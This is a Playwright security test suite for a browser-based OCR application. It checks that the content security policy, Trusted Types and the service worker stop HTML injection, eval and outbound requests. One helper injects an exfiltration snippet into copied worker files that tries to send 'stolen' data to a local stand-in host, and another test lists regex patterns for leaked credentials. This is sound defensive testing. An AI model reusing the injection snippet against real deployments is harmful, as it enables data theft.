import { cpSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { everywhere, kindsOf, pageHeaders, submitter as submitterPolicy, worker as workerPolicy } from '../policy.js';
import { serve } from '../scripts/serve.mjs';
import { expect, test } from './app.ts';
import { drawnText } from './drawn.ts';
import { HOSTILE_TEXTS, hostileTexts } from './hostile-texts.ts';
import { putReading } from './put-reading.ts';
import { unpacked } from './needles.ts';

test.use({ serviceWorkers: 'allow', keepsEngines: false });

const controlled = (page: Page) => page.waitForFunction(() => navigator.serviceWorker.controller !== null);

/** What these tests put into a page, or use of it that TypeScript does not know. */
interface Probed {
	heard: string[][];
	channel: BroadcastChannel;
	types: string[];
	trustedTypes: { createPolicy(name: string, rules: object): unknown };
}

/** Counts what runs `hit()` in any page of the context, and what opens a dialog. */
async function countHits(page: Page) {
	const hits: string[] = [];
	const context = page.context();
	await context.exposeBinding('hit', ({ page }, ...args) => void hits.push(`${page.url()} ${args.join()}`));
	context.on('dialog', (dialog) => {
		hits.push(dialog.message());
		void dialog.dismiss();
	});
	return hits;
}

/** Elements that nobody but a text taken for HTML could have made. */
const strangers = (page: Page) =>
	page.evaluate(
		() =>
			document.querySelectorAll(
				'iframe, object, embed, base, marquee, math, video, audio, [onerror], [onload], [onfocus], [ontoggle], [onmouseover], a[href^="javascript:"]',
			).length + [...document.scripts].filter((script) => script.text.includes('hit(')).length,
	);

test.describe('what the browser refuses', () => {
	test.use({
		breaches: { list: [/breach of policy:/, /content security policy/i] },
		expected: {
			list: [/TrustedHTML|TrustedScript|not a script of this application|EvalError|net::ERR|Failed to load/],
		},
	});

	test('no string becomes HTML or code, and no script from elsewhere a worker', async ({ page }) => {
		await page.goto('/');
		await controlled(page);
		const passed = await page.evaluate(async () => {
			const tries: Record<string, () => unknown> = {
				innerHTML: () => (document.body.innerHTML = '<b>x</b>'),
				outerHTML: () => (document.querySelector('main')!.outerHTML = '<b>x</b>'),
				insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
				write: () => document.write('<b>x</b>'),
				srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
				fragment: () => document.createRange().createContextualFragment('<b>x</b>'),
				parser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
				// eslint-disable-next-line no-eval -- that it cannot be done is what is shown
				eval: () => (0, eval)('1'),
				Function: () => new Function('return 1')(),
				timeout: () => setTimeout('1' as unknown as () => void),
				scriptText: () => (document.createElement('script').text = '1'),
				scriptSource: () => (document.createElement('script').src = 'https://example.com/x.js'),
				workerElsewhere: () => new Worker('/samples/letter.txt'),
				workerDots: () => new Worker('/vendor/../samples/letter.txt'),
				workerForeign: () => new Worker('https://example.com/vendor/x.js'),
				workerBlob: () => new Worker(URL.createObjectURL(new Blob(['1']))),
				policy: () =>
					(globalThis as unknown as Probed).trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
				defaultAgain: () =>
					(globalThis as unknown as Probed).trustedTypes.createPolicy('default', {
						createHTML: (text: string) => text,
					}),
			};
			// From a task of its own: what a test's own call is given by the browser is not what the page has.
			return new Promise<string[]>((resolve) =>
				setTimeout(() =>
					resolve(
						Object.entries(tries).flatMap(([name, act]) => {
							try {
								act();
								return [name];
							} catch {
								return [];
							}
						}),
					),
				),
			);
		});
		expect(passed).toEqual([]);
		expect(await page.evaluate(() => void new Worker('/vendor/tesseract/worker.min.js'))).toBeUndefined();
	});

	test('no request goes to a site that is not named in the policy, by any way that a page has', async ({ page }) => {
		const hits: string[] = [];
		const foreign = createServer((request, response) => {
			hits.push(request.url!);
			response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
		});
		await new Promise<void>((done) => foreign.listen(0, '127.0.0.1', done));
		const address = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
		await page.goto('/');
		await controlled(page);
		await page.evaluate(async (address) => {
			const add = (name: string, attributes: Record<string, string>) => {
				const element = document.createElement(name);
				try {
					for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
				} catch {
					// Trusted Types refuse it before the policy has to.
				}
				document.body.append(element);
				return element;
			};
			await fetch(`${address}/fetch`, { mode: 'no-cors' }).catch(() => undefined);
			const xhr = new XMLHttpRequest();
			xhr.open('POST', `${address}/xhr`);
			xhr.send('x');
			navigator.sendBeacon(`${address}/beacon`, 'x');
			new EventSource(`${address}/events`).close();
			try {
				new WebSocket(address.replace('http', 'ws') + '/socket');
			} catch {
				// refused at once
			}
			add('img', { src: `${address}/img` });
			add('link', { rel: 'stylesheet', href: `${address}/style` });
			add('link', { rel: 'prefetch', href: `${address}/prefetch` });
			add('link', { rel: 'preload', as: 'script', href: `${address}/preload` });
			add('iframe', { src: `${address}/frame` });
			add('object', { data: `${address}/object` });
			add('video', { src: `${address}/video` });
			(add('form', { method: 'post', action: `${address}/form`, target: '_blank' }) as HTMLFormElement).submit();
			await import(/* @vite-ignore */ `${address}/module`).catch(() => undefined);
			await new Promise((resolve) => setTimeout(resolve, 500));
		}, address);
		foreign.close();
		expect(hits).toEqual([]);
	});
});

test('the server sends the headers of the policy with everything, and the list for other hosts is the same', async ({
	request,
}) => {
	const html = readFileSync('build/index.html', 'utf8');
	const worker = readdirSync('build/_app/immutable/workers').find((name) => name.endsWith('.js'))!;
	const [submitter] = readdirSync('build/_app/immutable/submitter');
	const kinds = kindsOf(html);
	const kind = (glob: string) => kinds.find((each) => each.glob === glob)!.headers as Record<string, string>;
	const wanted: [string, Record<string, string | undefined>][] = [
		['/', pageHeaders(html)],
		['/settings', pageHeaders(html)],
		['/read/anything', pageHeaders(html)],
		['/service-worker.js', kind('/service-worker.js')],
		[`/_app/immutable/workers/${worker}`, kind('/_app/immutable/workers/*')],
		[`/_app/immutable/submitter/${submitter}`, kind('/_app/immutable/submitter/*')],
		['/vendor/tesseract/worker.min.js', kind('/vendor/*')],
		['/manifest.webmanifest', {}],
		['/nothing.here', {}],
	];
	for (const [path, more] of wanted) {
		const headers = (await request.get(path)).headers();
		for (const [name, value] of Object.entries({ ...everywhere, ...more }))
			if (value) expect.soft(headers[name.toLowerCase()], `${name} of ${path}`).toBe(value);
	}
	expect(everywhere['Cross-Origin-Opener-Policy']).toBe('same-origin');
	expect(workerPolicy).toContain("connect-src 'self'");
	expect(kind('/_app/immutable/submitter/*')['Content-Security-Policy']).toBe(submitterPolicy);
	expect(submitterPolicy).toBe("default-src 'none'; connect-src https://api.aspose.cloud");

	const rules = new Map<string, Record<string, string>>();
	let rule: Record<string, string> = {};
	for (const line of readFileSync('build/_headers', 'utf8').split('\n')) {
		const [, name, value] = /^ {2}([\w-]+): (.*)$/.exec(line) ?? [];
		if (name) rule[name] = value!;
		else if (line.startsWith('/')) rules.set(line, (rule = {}));
	}
	expect(rules.get('/*')).toEqual(everywhere);
	for (const place of ['/', '/settings', '/about', '/left', '/threat-model', '/read/*', '/index.html', '/404.html'])
		expect(rules.get(place), place).toEqual(pageHeaders(html));
	for (const { glob, headers } of kinds)
		expect(rules.get(glob)?.['Content-Security-Policy'], glob).toBe(
			(headers as Record<string, string>)['Content-Security-Policy'],
		);
});

/** A folder of the build whose workers also try, by every way a worker has, to reach a foreign address. */
function withHostileWorkers(folder: string, address: string) {
	cpSync('build', folder, { recursive: true });
	const attack = `;(() => {
		const tries = [
			() => fetch('${address}/fetch', { mode: 'no-cors' }),
			() => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('POST', '${address}/xhr'); x.onload = resolve; x.onerror = reject; x.send('stolen'); }),
			() => new Promise((resolve, reject) => { const s = new WebSocket('${address.replace('http', 'ws')}/socket'); s.onopen = resolve; s.onerror = reject; }),
			() => new Promise((resolve, reject) => { const s = new EventSource('${address}/events'); s.onopen = resolve; s.onerror = reject; }),
			() => import('${address}/module.js'),
			() => new Promise((resolve, reject) => { const w = new Worker('${address}/nested.js'); w.onerror = reject; setTimeout(reject, 300); }),
			() => { throw (0, eval)('1'); },
		];
		Promise.all(tries.map(async (go) => { try { await go(); return 'passed'; } catch { return 'refused'; } })).then((results) => {
			new BroadcastChannel('hostile').postMessage(results);
		});
	})();\n`;
	const workers = join(folder, '_app/immutable/workers');
	for (const name of readdirSync(workers))
		if (name.endsWith('.js') && !name.startsWith('keeper'))
			writeFileSync(join(workers, name), attack + readFileSync(join(workers, name), 'utf8'));
}

test.describe('a worker that was taken over', () => {
	test.use({
		breaches: { list: [/content security policy/i, /breach of policy/] },
		expected: { list: [/net::ERR|EventSource|WebSocket/] },
	});

	test('reaches no foreign address, while the document is read all the same', async ({ page, done, add }, info) => {
		const hits: string[] = [];
		const foreign = createServer((request, response) => {
			hits.push(request.url!);
			response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end();
		});
		await new Promise<void>((ready) => foreign.listen(0, '127.0.0.1', ready));
		const address = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
		const folder = info.outputPath('build');
		withHostileWorkers(folder, address);
		const server = await serve({ port: 5400, folder });
		const bare = await serve({ port: 5500, folder, headers: false });
		try {
			await page.addInitScript(() => {
				const heard: string[][] = ((globalThis as unknown as Probed).heard = []);
				const channel = ((globalThis as unknown as Probed).channel = new BroadcastChannel('hostile'));
				channel.onmessage = (event: MessageEvent) => heard.push(event.data);
			});
			await page.goto(server.url);
			await controlled(page);
			await add({ name: 'fox.png', mimeType: 'image/png', buffer: await drawnText(page, ['The quick brown fox']) });
			await done('fox.png');
			await page.waitForFunction(() => (globalThis as unknown as Probed).heard.length > 0);
			const heard: string[][] = await page.evaluate(() => (globalThis as unknown as Probed).heard);
			expect(heard.flat().filter((result) => result !== 'refused')).toEqual([]);
			expect(hits).toEqual([]);

			// On a host without headers, the service worker binds them.
			await page.goto(bare.url);
			await controlled(page);
			await page.evaluate((path) => void new Worker(path, { type: 'module' }), workerPath(folder));
			await page.waitForFunction(() => (globalThis as unknown as Probed).heard.length > 0);
			const again: string[][] = await page.evaluate(() => (globalThis as unknown as Probed).heard);
			expect(again.flat().filter((result) => result !== 'refused')).toEqual([]);
			expect(hits).toEqual([]);

			// The attack itself is sound: where nothing binds it, it gets through.
			const unbound = await page.context().browser()!.newContext({ serviceWorkers: 'block' });
			const first = await unbound.newPage();
			await first.goto(bare.url);
			// The application allows addresses of workers that are its own, once it has begun.
			await expect(first.getByLabel('Add files')).toBeAttached();
			await first.evaluate((path) => void new Worker(path, { type: 'module' }), workerPath(folder));
			await expect.poll(() => hits.length).toBeGreaterThan(0);
			await unbound.close();
		} finally {
			await server.close();
			await bare.close();
			foreign.closeAllConnections();
			foreign.close();
		}
	});
});

const workerPath = (folder: string) =>
	`/_app/immutable/workers/${readdirSync(join(folder, '_app/immutable/workers')).find((name) => name.startsWith('prepare'))}`;

test('hostile names and hostile text run nowhere: in the library, on the desk, in exports opened as pages', async ({
	page,
	add,
}) => {
	test.setTimeout(120_000);
	const hits = await countHits(page);
	await page.goto('/');
	const picture = await drawnText(page, ['The quick brown fox']);
	// Names differ in their bytes as well: the same bytes under the same name would be asked about.
	const named = HOSTILE_TEXTS.filter((_, index) => index % 4 === 0);
	await add(
		...named.map((text) => ({ name: `${text}.txt`, mimeType: 'text/plain', buffer: Buffer.from('no picture') })),
	);
	await expect(page.locator('[data-refused]')).toHaveCount(named.length);
	expect(await strangers(page)).toBe(0);
	await page.reload();
	await add(
		...HOSTILE_TEXTS.slice(0, 3).map((text, index) => ({
			name: `${index} ${text}.png`,
			mimeType: 'image/png',
			buffer: picture,
		})),
	);
	await expect(page.locator('[data-document][data-status="Completed"]')).toHaveCount(3, { timeout: 60_000 });
	expect(await strangers(page)).toBe(0);

	await page.locator('[data-document]').first().getByRole('link', { name: 'Open' }).click();
	await expect(page.locator('[data-reading]')).toContainText('fox');
	await putReading(page, [HOSTILE_TEXTS.map((text) => text.replaceAll(' ', '\u00a0')), HOSTILE_TEXTS]);
	await expect(page.locator('[data-reading]')).toContainText('onerror=hit()');
	expect(await strangers(page)).toBe(0);
	const reading = await page.locator('[data-reading]').innerText();
	expect(reading).toContain('[U+202E]');
	expect(reading).not.toContain('\u202e');

	await openExports(page);
	expect(hits).toEqual([]);
});

test('5,000 hostile texts, each in another disguise, run nowhere: on the desk, in exports opened as pages @long', async ({
	page,
	add,
}) => {
	test.setTimeout(600_000);
	const hits = await countHits(page);
	await page.goto('/');
	await add({ name: 'fox.png', mimeType: 'image/png', buffer: await drawnText(page, ['The quick brown fox']) });
	await expect(page.locator('[data-document][data-status="Completed"]')).toHaveCount(1, { timeout: 60_000 });
	await page.locator('[data-document]').first().getByRole('link', { name: 'Open' }).click();
	await expect(page.locator('[data-reading]')).toContainText('fox');
	const texts = hostileTexts(5_000);
	for (let first = 0; first < texts.length; first += 1_000) {
		const some = texts.slice(first, first + 1_000);
		await putReading(page, [some.map((text) => text.replace(/\s/g, '\u00a0')), ...some.map((text) => [text])]);
		await expect(page.locator('[data-reading]')).toContainText(/hit/i);
		expect(await strangers(page)).toBe(0);
		await openExports(page);
	}
	console.log(`hostile texts: ${texts.length}, run ${hits.length}`);
	expect(hits).toEqual([]);
});

/** Saves the document on the desk in every format that is markup, and opens each as a page of its own, under no policy at all. */
async function openExports(page: Page) {
	const context = page.context();
	for (const label of ['Web page', 'hOCR', 'ALTO XML', 'EPUB']) {
		await page.getByRole('button', { name: 'Export' }).click();
		const item = page.getByRole('menuitem', { name: new RegExp(`^${label}`) });
		const coming = page.waitForEvent('download');
		await item.click();
		const file = readFileSync((await (await coming).path())!);
		expect((await coming).url()).toMatch(/^blob:/);
		const pages = unpacked(file).filter((text) => /<(html|body|alto)/i.test(text));
		for (const text of pages.slice(0, 6)) {
			// Opened as a page of its own, under no policy at all.
			const opened = await context.newPage();
			await opened.route('http://saved.test/', (route) =>
				route.fulfill({ body: Buffer.from(text, 'latin1'), contentType: 'text/html; charset=utf-8' }),
			);
			await opened.goto('http://saved.test/');
			await opened.waitForTimeout(150);
			await opened.close();
		}
	}
}

test('a file that is saved is bytes of no type, so that no address of ours is a page', async ({ page, add, done }) => {
	await page.addInitScript(() => {
		const types: string[] = ((globalThis as unknown as Probed).types = []);
		const make = URL.createObjectURL.bind(URL);
		URL.createObjectURL = (blob: Blob) => (types.push(blob.type), make(blob));
	});
	await page.goto('/');
	await add({ name: 'fox.png', mimeType: 'image/png', buffer: await drawnText(page, ['The quick brown fox']) });
	const card = await done('fox.png');
	await page.evaluate(() => ((globalThis as unknown as Probed).types.length = 0));
	await card.getByRole('button', { name: 'Export' }).click();
	const coming = page.waitForEvent('download');
	await page.getByRole('menuitem', { name: /^Web page/ }).click();
	await coming;
	const types: string[] = await page.evaluate(() => (globalThis as unknown as Probed).types);
	// Thumbnails are pictures for this page.
	expect(types.filter((type) => !type.startsWith('image/'))).toEqual(['application/octet-stream']);
});

test('the build holds no secret', () => {
	const SECRETS = [
		/eyJ[\w-]{20,}\.eyJ[\w-]{20,}/,
		/-----BEGIN [A-Z ]*PRIVATE KEY/,
		/\bAKIA[0-9A-Z]{16}\b/,
		/\bgh[pousr]_[A-Za-z0-9]{30,}/,
		/\bnpm_[A-Za-z0-9]{30,}/,
		/client_?secret['"]?\s*[:=]\s*['"`][\w-]{8,}['"`]/i,
		/test-secret/,
		/Bearer [\w-]{20,}/,
	];
	const files = readdirSync('build', { recursive: true, withFileTypes: true }).filter(
		(entry) => entry.isFile() && /\.(js|html|json|css|webmanifest|txt|map)$|^_headers$/.test(entry.name),
	);
	const found = files.flatMap((entry) => {
		const text = readFileSync(join(entry.parentPath, entry.name), 'latin1');
		return SECRETS.filter((secret) => secret.test(text)).map((secret) => `${entry.name}: ${secret}`);
	});
	expect(files.length).toBeGreaterThan(50);
	expect(found).toEqual([]);
	expect(files.filter(({ name }) => name.endsWith('.map'))).toEqual([]);
});
